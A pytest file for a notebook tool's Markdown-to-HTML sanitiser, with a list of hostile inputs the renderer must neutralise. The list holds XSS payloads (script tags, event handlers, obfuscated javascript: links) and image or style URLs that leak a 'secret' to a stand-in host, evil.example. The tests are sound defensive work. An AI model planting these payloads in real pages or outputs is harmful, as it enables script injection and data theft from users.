"""A model's Markdown as HTML: rendered, and harmless whatever it says (C40, C49)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlxnb.notebook.box import html
from mlxnb.notebook.markdown import _cleaner, steady, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/?q=secret'>",
    "![secret](http://evil.example/?q=secret)",
    "![secret](//evil.example/?q=secret)",
    "![a][b]\n\n[b]: http://evil.example/x.png 'title\" onload=\"alert(1)'",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click]( \x01javascript:alert(1))",
    "[click](vbscript:x)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[click](file:///etc/passwd)",
    "[click](/lab/api/kernels)",
    "[click](../tree?token=1)",
    "[click](//evil.example)",
    "[click](#anchor)",
    "[click](https://ok.example 'x\" onmouseover=\"alert(1)')",
    '<https://ok.example/"onclick=alert(1)>',
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><animate/></svg>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<iframe src=http://evil.example></iframe>",
    "<object data=http://evil.example></object><embed src=x><video src=x autoplay></video>",
    "<form action=http://evil.example><input name=q><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<div style='background:url(http://evil.example)' id=x class=y onclick=z>text</div>",
    "<details open ontoggle=alert(1)>",
    "<!-- comment --><![CDATA[x]]><?php x ?>",
    "a <b>bold</b> &lt;script&gt;alert(1)&lt;/script&gt; &amp;",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ntext\n```',
    "`<img src=x onerror=alert(1)>`",
    "# A heading <script>alert(1)</script>",
    "Title\n=====\n\nOther\n-----",
    "| a | <script>x</script> |\n|---|:-:|\n| ![i](http://evil.example/i) | <img src=x> |",
    "</div></div></details><script>alert(1)</script>",
    "$$\\style{background:url(http://evil.example)}{x}$$ \\(\\href{javascript:alert(1)}{x}\\)",
    "[![alt](http://evil.example/i.png)](http://other.example)",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "[x]: javascript:alert(1)\n\n[x]",
    "\x00<script>\x00",
]
ALLOWED = {
    *("p", "br", "hr", "div", "blockquote", "pre", "code", "em", "strong", "del", "s", "a"),
    *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "details", "summary"),
}
STYLES = re.compile(r"text-align:(left|center|right)|font-weight:600;font-size:[\d.]+em")


class Checker(HTMLParser):
    """Fails on everything that could run, load, navigate or leave the box."""

    depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        self.depth += tag == "div"
        given = dict(attrs)
        if tag == "a":
            assert set(given) - {"href"} == {"target", "rel"}
            assert re.match(r"(https?://|mailto:)", given.get("href") or "https://")
            assert "noopener" in (given["rel"] or "")
            return
        assert set(given) <= {"role", "aria-level", "style", "start"}, given
        assert given.get("role", "heading") == "heading"
        assert STYLES.fullmatch(given.get("style") or "text-align:left")

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag == "div"
        assert self.depth >= 0, "the box is left"


def check(page: str) -> None:
    checker = Checker()
    checker.feed(page)
    checker.close()
    assert checker.depth == 0


@pytest.mark.parametrize("page", [t for t in HOSTILE if re.match("<(?!!|javascript:|https:)", t)])
def test_the_checker_sees_what_is_hostile(page: str) -> None:
    with pytest.raises(AssertionError):
        check(page)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_loads_or_leaves_the_box(text: str) -> None:
    check(to_html(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_does_while_it_is_being_written(text: str) -> None:
    for cut in range(len(text)):
        check(to_html(steady(text[:cut])))


@given(st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "**", "`", "```\n"])))
def test_no_mixture_does(parts: list[str]) -> None:
    check(to_html("".join(parts)))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_box_has_only_our_own_attributes_around_it(text: str) -> None:
    page = html(text, text, [text], text, final=True)
    bare = re.sub(r' style="[^"]*"| class="mlxnb-answer tex2jax_ignore mathjax_ignore"', "", page)
    check(bare)


@pytest.mark.parametrize("page", HOSTILE)
def test_the_allow_list_alone_would_do(page: str) -> None:
    check(_cleaner().clean(page))


def test_an_image_is_a_link_that_shows_its_address() -> None:
    page = to_html("![a cat](http://example.org/cat.png?q=1&r=2)")
    assert "<img" not in page
    assert ">a cat (http://example.org/cat.png?q=1&amp;r=2)</a>" in page


def test_a_heading_is_no_heading_element() -> None:
    page = to_html("# One\n\n### Three")
    assert re.findall(r'role="heading" aria-level="(\d)"[^>]*>(\w+)<', page) == [
        ("1", "One"),
        ("3", "Three"),
    ]
    assert not re.search(r"<h[1-6]|id=", page)


@pytest.mark.parametrize(
    ("text", "page"),
    [
        (
            "**bold** *it* ~~no~~ `code`",
            "<p><strong>bold</strong> <em>it</em> <s>no</s> <code>code</code></p>",
        ),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
        ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>"),
    ],
)
def test_markdown_is_rendered(text: str, page: str) -> None:
    assert to_html(text).strip() == page


def test_a_table_keeps_its_alignment() -> None:
    page = to_html("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<td style="text-align:right">2</td>' in page


def test_a_link_is_kept_with_rel_and_without_title() -> None:
    page = to_html('[here](https://example.org/?a=1&b=2 "title")')
    assert page.strip() == (
        '<p><a href="https://example.org/?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer">here</a></p>'
    )


# --- an answer on its way ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a **bo", "a **bo**"),
        ("a **bold** b", "a **bold** b"),
        ("a **", "a "),
        ("a `co", "a `co`"),
        ("a `", "a "),
        ("a **b\n\nc", "a **b\n\nc"),
        ("```\n**x", "```\n**x"),
        ("```\nx\n```\n\n**y", "```\nx\n```\n\n**y**"),
        ("", ""),
    ],
)
def test_open_spans_are_closed_for_now(text: str, shown: str) -> None:
    assert steady(text) == shown


def test_a_list_that_is_begun_makes_no_heading_of_the_line_above() -> None:
    assert "heading" not in to_html("These are:\n-")
    assert "heading" not in to_html("These are:\n==")


def test_an_open_fence_is_code_already() -> None:
    assert to_html("```python\nprint(1") == "<pre><code>print(1</code></pre>\n"
